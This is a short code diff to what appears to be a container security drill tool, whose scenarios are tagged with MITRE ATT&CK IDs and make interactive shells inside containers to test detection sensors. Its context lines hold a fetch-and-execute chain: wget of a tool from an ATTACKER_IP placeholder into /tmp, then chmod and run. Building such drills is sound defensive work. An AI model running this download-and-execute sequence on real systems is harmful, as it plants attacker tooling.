@@ -58,7 +58,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         "shell",
         "An interactive shell exec'd into the running container (kubectl/podman exec).",
         ("T1059.004", "T1609"),
-        (("sh", "-c", "echo drill: shell"),),
+        (("sh", "-i", "-c", "echo drill: shell"),),
         ((SHELL,),),
     ),
     Scenario(
@@ -75,7 +75,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         "exec: busybox's shell runs its applets without exec(), which no sensor sees as wget.",
         ("T1105", "T1059.004"),
         (
-            ("sh", "-c", "echo drill: foothold"),
+            ("sh", "-i", "-c", "echo drill: foothold"),
             ("wget", "-q", "-O", "/tmp/busybox", f"http://{ATTACKER_IP}:{HTTP_PORT}/tool"),
             ("chmod", "+x", "/tmp/busybox"),
             ("/tmp/busybox", "echo", "drill: tool ran"),
